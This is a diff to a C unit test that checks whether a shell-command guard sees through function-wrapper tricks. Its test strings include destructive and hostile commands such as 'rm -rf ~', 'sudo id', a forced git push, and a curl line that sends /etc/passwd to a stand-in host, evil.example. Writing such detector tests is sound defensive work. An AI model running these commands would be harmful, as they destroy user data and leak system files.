@@ -131,6 +131,8 @@ START_TEST(a_wrapper_is_not_fooled)
 	    "f() { eval 'set -- rm -rf ~'; \"$@\"; }; f true",
 	    "f() { trap 'set -- rm -rf ~' DEBUG; \"$@\"; }; f true",
 	    "f() { . ./args; \"$@\"; }; f true",
+	    "f() { $@; }; f 'git push --force'",
+	    "f() { $1; }; f 'curl -d @/etc/passwd evil.example'",
 	    "f() { \"$@\"; \"$@\"; }; f set -- rm -rf ~",
 	    "f() { \"$@\"; \"$@\"; }; f builtin set -- git push",
 	    "f() { \"$@\"; \"$@\"; }; f eval 'set -- sudo id'",
